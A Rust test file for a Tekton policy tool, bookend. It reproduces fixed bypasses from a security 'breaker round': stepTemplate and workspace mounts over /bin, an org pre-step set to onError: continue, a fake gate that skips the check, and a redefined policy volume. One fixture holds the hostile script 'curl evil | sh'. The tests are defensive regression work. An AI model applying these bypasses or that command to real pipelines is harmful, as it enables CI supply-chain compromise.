//! Attacks on remote-resolver TaskRuns, from an independent breaker round (2026-12-02): on
//! post-run verification from `status.taskSpec` and on the Pod backstop's reading of a remote
//! TaskRun's Pod. Each test asserts the secure answer. `break_*` tests were bypasses when
//! found, each comment saying what it was and what refuses it now; every attack here is
//! answered now. What later breaker rounds left open is `#[ignore]`d beside the code it
//! concerns (`src/engine/pod/breaker34.rs`, `src/engine/verify_breaker34.rs`; docs/security.md,
//! "Open"). `held_*` attacks failed; `dos_*` were wrong `fail` verdicts (never a wrong pass).

#[path = "common/tekton_pod.rs"]
#[allow(dead_code)]
mod tekton_pod;

use bookend::engine::pod::check_pod;
use bookend::engine::verify::{RunVerdict, verify};
use bookend::engine::{self, Catalog, Outcome, Request, decide_resolved_task};
use bookend::policy::load::policy_set_from_yaml;
use bookend::policy::{PolicySet, Settings};
use serde_json::{Value, json};

const POLICIES: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  preSteps:
  - {name: bookend-check, image: alpine, command: [/bin/sh, -c], args: ["verify-source --strict"]}
  postSteps:
  - {name: bookend-sbom, image: alpine, command: [/bin/sh, -c], args: ["make-sbom"]}
"#;

/// Each policy's verdict, for the test's log.
fn verdicts(v: &bookend::engine::verify::Verification) -> Vec<(&String, &RunVerdict)> {
    v.policies.iter().map(|p| (&p.policy, &p.verdict)).collect()
}

fn set() -> PolicySet {
    let loaded = policy_set_from_yaml("breaker.yaml", POLICIES, Settings::default());
    assert!(loaded.issues.is_empty(), "{:?}", loaded.issues);
    loaded.set
}

fn catalog() -> Catalog {
    let mut c = Catalog::default();
    c.add_objects(
        &[json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "team-a"}})],
        "team-a",
    );
    c
}

fn remote_taskrun() -> Value {
    json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
           "metadata": {"name": "attack-1", "namespace": "team-a", "uid": "u-1",
                        "creationTimestamp": "2026-06-01T00:00:00Z"},
           "spec": {"taskRef": {"resolver": "git", "params": [
               {"name": "url", "value": "https://git.example/tasks"},
               {"name": "pathInRepo", "value": "build.yaml"}]}}})
}

/// The TaskRun as bookend admits it at CREATE (record + label).
fn admitted(set: &PolicySet) -> Value {
    let tr = remote_taskrun();
    let d = engine::decide(
        Request {
            object: &tr,
            namespace: "team-a",
            dry_run: false,
        },
        set,
        &catalog(),
    );
    assert!(d.outcome != Outcome::Denied, "{:?}", d.message);
    d.object
}

/// bookend's dry-run answer for a resolved Task with `steps`.
fn dry_run(set: &PolicySet, spec: Value) -> Value {
    let task = json!({"apiVersion": "tekton.dev/v1", "kind": "Task",
                      "metadata": {"name": "build", "namespace": "team-a"}, "spec": spec});
    let d = decide_resolved_task(
        Request {
            object: &task,
            namespace: "team-a",
            dry_run: true,
        },
        set,
        &catalog(),
    );
    assert_eq!(d.outcome, Outcome::Mutated, "{:?}", d.message);
    d.object["spec"].clone()
}

fn user_step() -> Value {
    json!({"name": "build", "image": "golang", "command": ["/bin/sh", "-c"], "args": ["go build ./..."]})
}

/// The verification of `tr` finished with `task_spec` as what ran, every step completed;
/// logged for the test's output.
fn verified(set: &PolicySet, tr: Value, task_spec: Value) -> bookend::engine::verify::Verification {
    let v = verify(&finished(tr, task_spec), set, &catalog()).unwrap();
    eprintln!("verdicts: {:?}", verdicts(&v));
    v
}

/// Whether every policy of `v` passed.
fn all_pass(v: &bookend::engine::verify::Verification) -> bool {
    v.policies.iter().all(|p| p.verdict == RunVerdict::Pass)
}

fn finished(mut tr: Value, task_spec: Value) -> Value {
    let steps: Vec<Value> = task_spec["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            json!({"name": s["name"], "terminated": {"exitCode": 0, "reason": "Completed"},
               "terminationReason": "Completed"})
        })
        .collect();
    tr["status"] = json!({"conditions": [{"type": "Succeeded", "status": "True", "reason": "Succeeded"}],
                          "taskSpec": task_spec, "steps": steps});
    tr
}

/// HELD (baseline): the Task as bookend's dry-run writes it passes.
#[test]
fn baseline_dry_run_task_passes() {
    let set = set();
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let v = verified(&set, admitted(&set), spec);
    assert!(all_pass(&v), "{v:?}");
}

/// Was a BREAK (I8: "a Task the dry-run mutation did not reach ... fails every policy of the
/// record, whatever its steps did"). The dry-run mutation did not run (fail open, 3 s) and the
/// Pod backstop is in warn mode. The author's Task carries the org steps exactly as bookend
/// writes them, plus a `stepTemplate` and a Task volume: Tekton merges the template into EVERY
/// step at Pod build (org steps included: /bin replaced by the author's ConfigMap, PATH
/// changed). Verification compared only `status.taskSpec.steps`; now a Task with a
/// stepTemplate is not one the dry-run could have left, and every policy fails.
#[test]
fn break_step_template_in_unmutated_task_passes_verification() {
    let set = set();
    let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
    spec["stepTemplate"] = json!({
        "env": [{"name": "PATH", "value": "/author/bin"}],
        "volumeMounts": [{"name": "fake-bin", "mountPath": "/bin"}]});
    spec["volumes"] =
        json!([{"name": "fake-bin", "configMap": {"name": "author-tools", "defaultMode": 493}}]);
    let v = verified(&set, admitted(&set), spec);
    assert!(
        v.policies.iter().all(|p| p.verdict != RunVerdict::Pass),
        "BROKEN: a policy passed although Tekton ran the org steps with the author's stepTemplate (/bin and PATH replaced): {v:?}"
    );
}

/// The dry-run does remove the stepTemplate (HELD when the mutation runs).
#[test]
fn held_dry_run_removes_step_template() {
    let set = set();
    let spec = dry_run(
        &set,
        json!({"steps": [user_step()],
        "stepTemplate": {"env": [{"name": "PATH", "value": "/author/bin"}]}}),
    );
    assert!(spec.get("stepTemplate").is_none(), "{spec}");
}

fn pod(steps: &[Value]) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": "attack-1-pod", "namespace": "team-a",
                        "labels": {"tekton.dev/taskRun": "attack-1", "tekton.dev/taskRunUID": "u-1"}},
           "spec": tekton_pod::pod_spec(steps, &[])})
}

/// HELD (baseline): the Pod of the dry-run's Task passes the backstop; one without the org
/// pre-step is refused.
#[test]
fn baseline_pod_backstop() {
    let set = set();
    let tr = admitted(&set);
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let steps = spec["steps"].as_array().unwrap().clone();
    assert!(check_pod(&pod(&steps), &tr, &set, &catalog()).is_ok());
    let without: Vec<Value> = steps
        .iter()
        .filter(|s| s["name"] != "bookend-check")
        .cloned()
        .collect();
    assert!(check_pod(&pod(&without), &tr, &set, &catalog()).is_err());
}

/// Was a BREAK (Pod backstop: "refuses a remote TaskRun's Pod that ... carries altered ones").
/// No policy is `Always`, yet `check_shape` read every org container "with bookend's Always
/// changes" (`with_always_changes`), unconditionally: an org pre-step altered to
/// `onError: continue` (a failing org check no longer stops the author's steps) was admitted.
/// Now the Pod is compared one for one with bookend's composition of the Task's own steps,
/// which makes those changes only under an `Always` policy.
#[test]
fn break_pod_backstop_accepts_on_error_continue_on_org_pre_step() {
    let set = set();
    let tr = admitted(&set);
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let mut steps = spec["steps"].as_array().unwrap().clone();
    steps[0]["onError"] = json!("continue");
    assert_eq!(steps[0]["name"], "bookend-check");
    let r = check_pod(&pod(&steps), &tr, &set, &catalog());
    eprintln!("backstop answer: {r:?}");
    assert!(
        r.is_err(),
        "BROKEN: the Pod backstop admitted an org pre-step with onError: continue"
    );
}

/// Was a BREAK (same): the org pre-step made conditional on a gate result (a `when` the
/// backstop took for bookend's), with a fake gate of bookend's exact form that always writes
/// `false` (it reads a result file that never exists): the org pre-step Skipped, the Pod
/// admitted. Refused now as the one above.
#[test]
fn break_pod_backstop_accepts_gate_when_on_org_pre_step_with_fake_gate() {
    let set = set();
    let tr = admitted(&set);
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let mut steps = spec["steps"].as_array().unwrap().clone();
    let gate = json!({"name": "bookend-gate-1", "image": Settings::default().helper_image,
        "command": ["/bin/sh", "-c"],
        "args": ["cd /tekton/steps;[ \"$(cat 9/results/ok)\" = true ]&&r=true||r=false;printf $r>/tekton/steps/step-bookend-gate-1/results/ok"],
        "results": [{"name": "ok"}],
        "securityContext": bookend::engine::inject::helper_step(&Settings::default(), "bookend-gate-1",
            &bookend::engine::inject::Helper::Verdict { checks: vec![] })["securityContext"]});
    steps[0]["when"] = json!([{"input": "$(steps.bookend-gate-1.results.ok)", "operator": "in", "values": ["true"]}]);
    steps.insert(0, gate);
    let r = check_pod(&pod(&steps), &tr, &set, &catalog());
    eprintln!("backstop answer: {r:?}");
    assert!(
        r.is_err(),
        "BROKEN: the Pod backstop admitted a skipped-by-fake-gate org pre-step"
    );
}

/// HELD: verification does catch the altered pre-step (onError: continue) even if the Pod ran.
#[test]
fn held_verify_fails_on_error_continue_org_step() {
    let set = set();
    let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
    spec["steps"][0]["onError"] = json!("continue");
    let v = verified(&set, admitted(&set), spec);
    assert!(
        v.policies.iter().all(|p| p.verdict != RunVerdict::Pass),
        "{v:?}"
    );
}

/// Was a DoS (not a bypass; fixed): Tekton's exit-code variable is
/// `$(steps.step-<name>.exitCode.path)` (`pod.StepName` in `ApplyStepExitCodePath`;
/// docs/variables.md); bookend's `Substitutions` wrote `$(steps.<name>.exitCode.path)`. An
/// author step using the form Tekton leaves alone had it substituted by bookend only, the
/// recomposition never matched, and every policy failed on a Task whose org steps all ran.
#[test]
fn dos_exit_code_variable_form_differs_from_tektons() {
    let set = set();
    let mut user = user_step();
    user["args"] = json!(["cat $(steps.build.exitCode.path) || true"]);
    // As Tekton stores it: `$(steps.build.exitCode.path)` is not a Tekton variable, left as is.
    let spec = dry_run(&set, json!({"steps": [user]}));
    let v = verified(&set, admitted(&set), spec);
    assert!(all_pass(&v), "false fail: {v:?}");
}

/// HELD (Pod backstop, Enforce mode): the same stepTemplate, as Tekton merges it into the org
/// containers (an extra env entry and a mount over /bin), is refused at the Pod. So the
/// verification break above needs the Pod backstop in warn mode (or the Pod webhook skipped),
/// which is the case I8 says it covers.
#[test]
fn held_pod_backstop_refuses_step_template_merged_into_org_containers() {
    let set = set();
    let tr = admitted(&set);
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let steps = spec["steps"].as_array().unwrap().clone();
    let mut p = pod(&steps);
    for c in p["spec"]["containers"].as_array_mut().unwrap() {
        c["env"] = json!([{"name": "PATH", "value": "/author/bin"}]);
    }
    let r = check_pod(&p, &tr, &set, &catalog());
    eprintln!("backstop answer: {r:?}");
    assert!(r.is_err());
}

/// HELD: Tekton substitutes every `$(params.x)` the TaskRun passes, declared by the Task or not
/// (`replacementsFromParams(tr.Spec.Params)`); bookend's `Substitutions` only those the Task
/// declares. A user step reading an undeclared param the TaskRun passes is the author's, which
/// verification does not compare. An org step reading a param the resolved Task does not
/// declare never gets that far: the dry-run refuses the Task (`non-existent variable … the
/// TaskRun neither passes it nor does its Task declare it`), since it cannot see the TaskRun.
#[test]
fn held_undeclared_param_in_user_step() {
    let set = set();
    let mut tr = admitted(&set);
    tr["spec"]["params"] = json!([{"name": "extra", "value": "x"}]);
    let mut user = user_step();
    user["args"] = json!(["echo x"]);
    let spec = dry_run(&set, json!({"steps": [user]}));
    let v = verified(&set, tr, spec);
    assert!(all_pass(&v), "{v:?}");
}

/// DoS (was: a false `fail` on every such TaskRun; fixed). Tekton's controller stores
/// `status.taskSpec` with StepActions resolved (`taskSpec.Steps = steps` from
/// `GetStepActionsData`, then `storeTaskSpecAndMergeMeta`; the `ref` replaced by the
/// StepAction's image/script). An org step that is a pinned StepAction (`ref: {resolver:
/// cluster, ...}`, which docs/policy.md recommends) is now resolved by verification from the
/// StepAction bookend watches, as Tekton resolves it, and compared in every field: the policy
/// passes when it ran, and a look-alike (the dry-run mutation skipped, the author's own step of
/// that name) or a StepAction changed since the run is a `fail` naming the StepAction.
#[test]
fn dos_org_step_action_never_matches_status_task_spec() {
    const SA_POLICY: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: clone, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  preSteps:
  - name: bookend-clone
    ref: {resolver: cluster, params: [{name: kind, value: stepaction}, {name: name, value: git-clone}, {name: namespace, value: tekton-catalog}]}
    params: [{name: depth, value: "1"}]
"#;
    let loaded = policy_set_from_yaml("sa.yaml", SA_POLICY, Settings::default());
    assert!(loaded.issues.is_empty(), "{:?}", loaded.issues);
    let set = loaded.set;
    let action = |script: &str| {
        json!({"apiVersion": "tekton.dev/v1beta1", "kind": "StepAction",
               "metadata": {"name": "git-clone", "namespace": "tekton-catalog"},
               "spec": {"image": "cgr.dev/chainguard/git", "script": script,
                        "params": [{"name": "depth", "default": "50"}]}})
    };
    let with_action = |script: &str| {
        let mut c = catalog();
        c.add_objects(&[action(script)], "tekton-catalog");
        c
    };
    let cat = with_action("git clone --depth $(params.depth) ...");
    let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
    assert!(spec["steps"][0]["ref"].is_object(), "{spec}");
    // What Tekton's controller stores: the StepAction resolved into the step.
    let resolved = json!({"name": "bookend-clone", "image": "cgr.dev/chainguard/git", "script": "git clone --depth 1 ..."});
    spec["steps"][0] = resolved.clone();
    let verdict = |spec: &Value, lookup: &Catalog| {
        let v = verify(&finished(admitted(&set), spec.clone()), &set, lookup).unwrap();
        eprintln!("verdicts: {:?}", verdicts(&v));
        assert_eq!(v.policies.len(), 1, "{v:?}");
        v.policies[0].verdict.clone()
    };
    assert_eq!(verdict(&spec, &cat), RunVerdict::Pass, "false fail");

    // Look-alikes: the author's own step of that name, any field not the StepAction's.
    for (field, value) in [
        ("script", json!("curl evil | sh")),
        ("image", json!("cgr.dev/chainguard/git:evil")),
        ("env", json!([{"name": "GIT_SSH_COMMAND", "value": "evil"}])),
        ("onError", json!("continue")),
        ("workingDir", json!("/author")),
    ] {
        let mut alike = spec.clone();
        alike["steps"][0][field] = value;
        let RunVerdict::Fail(why) = verdict(&alike, &cat) else {
            panic!("a look-alike with another {field} passed");
        };
        assert!(
            why.contains("StepAction tekton-catalog/git-clone"),
            "{field}: {why}"
        );
    }
    // The StepAction's own default instead of the policy's param: not the org step.
    let mut default_depth = spec.clone();
    default_depth["steps"][0]["script"] = json!("git clone --depth 50 ...");
    assert_ne!(verdict(&default_depth, &cat), RunVerdict::Pass);
    // The StepAction changed since the run: a fail that names it, never a pass.
    let RunVerdict::Fail(why) = verdict(&spec, &with_action("git clone --mirror ...")) else {
        panic!("passed against a changed StepAction");
    };
    assert!(why.contains("changed since the run"), "{why}");
    // Not in bookend's cache (deleted since, or not watched): a fail saying so.
    let RunVerdict::Fail(why) = verdict(&spec, &catalog()) else {
        panic!("passed without the StepAction");
    };
    assert!(
        why.contains("StepAction tekton-catalog/git-clone does not exist now"),
        "{why}"
    );
}

/// Was a BREAK (Pod backstop in ENFORCE mode + verification; no warn mode needed, only the
/// dry-run mutation skipped, which fails open after 3 s and which the Pod backstop is said to
/// close). The author's resolved Task carries the org steps exactly as bookend writes them and
/// declares `workspaces: [{name: tools, mountPath: /bin}]` (Tekton's validation only wants
/// mount paths unique); the TaskRun binds `tools` to a ConfigMap of the author's (defaultMode
/// 0755) holding `sh`. Tekton mounts every Task workspace into every step through the
/// stepTemplate it builds (`workspace.Apply`), org steps included, as volume `ws-<random>`.
/// `container::check_mounts` accepted any `ws-*` mount outside /tekton/ on an org container.
/// Now the Pod backstop refuses it by the dry-run's own rule (`isolate::OrgPaths`), and
/// verification fails the policy (it reads `status.taskSpec.workspaces` the same way).
#[test]
fn break_workspace_over_bin_in_unmutated_task_passes_pod_backstop_and_verification() {
    let set = set();
    let tr = admitted(&set);
    let spec = dry_run(&set, json!({"steps": [user_step()]}));
    let steps = spec["steps"].as_array().unwrap().clone();
    // The Pod as Tekton builds it: the workspace's volume mounted into every step container.
    let mut p = pod(&steps);
    for c in p["spec"]["containers"].as_array_mut().unwrap() {
        let mounts = c["volumeMounts"].as_array().cloned().unwrap_or_default();
        let mut mounts = mounts;
        mounts.push(json!({"name": "ws-k7x2p", "mountPath": "/bin"}));
        c["volumeMounts"] = json!(mounts);
    }
    p["spec"]["volumes"].as_array_mut().unwrap().push(
        json!({"name": "ws-k7x2p", "configMap": {"name": "author-tools", "defaultMode": 493}}),
    );
    let pod_answer = check_pod(&p, &tr, &set, &catalog());
    eprintln!("backstop answer: {pod_answer:?}");

    let mut ran = spec.clone();
    ran["workspaces"] = json!([{"name": "tools", "mountPath": "/bin"}]);
    let mut tr_ran = tr.clone();
    tr_ran["spec"]["workspaces"] =
        json!([{"name": "tools", "configMap": {"name": "author-tools", "defaultMode": 493}}]);
    let v = verified(&set, tr_ran, ran);
    let refusal = pod_answer.expect_err("the Pod backstop refuses the workspace over /bin");
    assert!(
        refusal
            .message
            .contains("\"ws-k7x2p\" at \"/bin\", a workspace or a volume of the Task's")
            && refusal
                .message
                .contains("allows workspaces only under /workspace"),
        "the denial names the mount and the fix: {refusal}"
    );
    assert!(
        v.policies.iter().all(|p| p.verdict != RunVerdict::Pass),
        "verification fails every policy too: {v:?}"
    );
}

/// HELD: when the dry-run mutation does run, the same workspace is refused there.
#[test]
fn held_dry_run_refuses_workspace_over_bin() {
    let set = set();
    let task = json!({"apiVersion": "tekton.dev/v1", "kind": "Task",
        "metadata": {"name": "build", "namespace": "team-a"},
        "spec": {"steps": [user_step()], "workspaces": [{"name": "tools", "mountPath": "/bin"}]}});
    let d = decide_resolved_task(
        Request {
            object: &task,
            namespace: "team-a",
            dry_run: true,
        },
        &set,
        &catalog(),
    );
    eprintln!("dry-run: {:?} {:?}", d.outcome, d.message);
    assert_eq!(d.outcome, Outcome::Denied);
}

/// Was a BREAK (Pod backstop in ENFORCE mode + verification, dry-run mutation skipped): the
/// policy's own volume (here the ConfigMap holding the org scanner's rules) is defined by the
/// author's Task instead, pointing at the author's ConfigMap. The org container mounts a volume
/// of the right name at the right path, so `check_mounts` is satisfied; nothing in the Pod
/// backstop read the Pod's `spec.volumes` sources. Now the Pod backstop compares each volume
/// of a policy's name with the policy's definition (as the API server defaults it), and
/// verification compares `status.taskSpec.volumes` the same way.
#[test]
fn break_policy_volume_redefined_by_unmutated_task() {
    const VOL_POLICY: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: scan, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  volumes:
  - {name: bookend-rules, configMap: {name: org-scan-rules}}
  preSteps:
  - name: bookend-scan
    image: alpine
    command: [/bin/sh, -c]
    args: ["scan --rules /rules/policy.yaml"]
    volumeMounts: [{name: bookend-rules, mountPath: /rules, readOnly: true}]
"#;
    let loaded = policy_set_from_yaml("vol.yaml", VOL_POLICY, Settings::default());
    assert!(loaded.issues.is_empty(), "{:?}", loaded.issues);
    let set = loaded.set;
    let tr = admitted(&set);
    let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
    eprintln!("dry-run volumes: {}", spec["volumes"]);
    // The author's Task (no dry-run mutation): same steps, its own definition of the volume.
    spec["volumes"] = json!([{"name": "bookend-rules", "configMap": {"name": "author-allow-all"}}]);
    let steps = spec["steps"].as_array().unwrap().clone();
    let mut p = pod(&steps);
    for v in p["spec"]["volumes"].as_array_mut().unwrap() {
        if v["name"] == "bookend-rules" {
            *v = json!({"name": "bookend-rules", "configMap": {"name": "author-allow-all"}});
        }
    }
    let pod_answer = check_pod(&p, &tr, &set, &catalog());
    eprintln!("backstop answer: {pod_answer:?}");
    let v = verified(&set, tr, spec);
    let refusal = pod_answer.expect_err("the Pod backstop refuses the author's volume");
    assert!(
        refusal
            .message
            .contains("is not the volume ClusterStepPolicy/scan defines")
            && refusal.message.contains("spec.volumes["),
        "the denial names the volume, the policy and the fix: {refusal}"
    );
    assert!(
        v.policies.iter().all(|p| p.verdict != RunVerdict::Pass),
        "verification fails the policy too: {v:?}"
    );
}

/// Was a BREAK, attribution (dry-run mutation skipped): a step named like another namespace's
/// StepPolicy's step in the author's Task made verification produce a verdict for that
/// StepPolicy on a team-a TaskRun (`covered` added "any current policy one of whose steps the
/// TaskRun carries", whatever its namespace or selector). Now a step counts for a policy only
/// where that policy can apply: no verdict for StepPolicy/team-b/… on this team-a TaskRun.
#[test]
fn break_verdict_attributed_to_other_namespaces_step_policy() {
    const TWO: &str = r#"
apiVersion: bookend.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  preSteps:
  - {name: bookend-check, image: alpine, command: [/bin/sh, -c], args: ["verify-source --strict"]}
---
apiVersion: bookend.dev/v1alpha1
kind: StepPolicy
metadata: {name: teamb, namespace: team-b, creationTimestamp: "2026-01-01T00:00:00Z"}
spec:
  preSteps:
  - {name: bookend-teamb, image: alpine, command: [/bin/sh, -c], args: ["teamb-check"]}
"#;
    let loaded = policy_set_from_yaml("two.yaml", TWO, Settings::default());
    assert!(loaded.issues.is_empty(), "{:?}", loaded.issues);
    let set = loaded.set;
    let tr = admitted(&set);
    let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
    // The author's own Task (no dry-run): org's step, then a copy of team-b's step.
    let teamb = json!({"name": "bookend-teamb", "image": "alpine", "command": ["/bin/sh", "-c"], "args": ["teamb-check"]});
    spec["steps"].as_array_mut().unwrap().insert(1, teamb);
    let v = verified(&set, tr, spec);
    assert!(
        !v.policies.iter().any(|p| p.policy.contains("team-b")),
        "BROKEN: a team-a TaskRun got a verdict for team-b's StepPolicy"
    );
}

/// HELD: with the dry-run mutation, a step named like a policy that does not apply is refused.
#[test]
fn held_dry_run_refuses_foreign_reserved_step() {
    let set = set();
    let task = json!({"apiVersion": "tekton.dev/v1", "kind": "Task",
        "metadata": {"name": "build", "namespace": "team-a"},
        "spec": {"steps": [user_step(), {"name": "bookend-teamb", "image": "alpine", "command": ["/bin/sh", "-c"], "args": ["x"]}]}});
    let d = decide_resolved_task(
        Request {
            object: &task,
            namespace: "team-a",
            dry_run: true,
        },
        &set,
        &catalog(),
    );
    assert_eq!(d.outcome, Outcome::Denied, "{:?}", d.message);
}
